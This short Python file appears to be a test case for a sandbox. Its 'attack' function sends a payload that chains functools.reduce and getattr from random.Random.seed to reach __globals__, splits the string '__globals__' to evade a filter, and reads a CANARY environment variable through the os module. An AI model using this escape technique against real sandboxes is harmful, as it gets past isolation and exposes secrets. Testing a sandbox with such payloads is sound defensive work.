"""P1: functools.reduce over getattr and names."""


def attack(door):
    door.run("import functools, random")
    door.value(
        "functools.reduce(getattr, ['Random', 'seed', '__glo' + 'bals__'], random)['_os'].environ['CANARY']"
    )
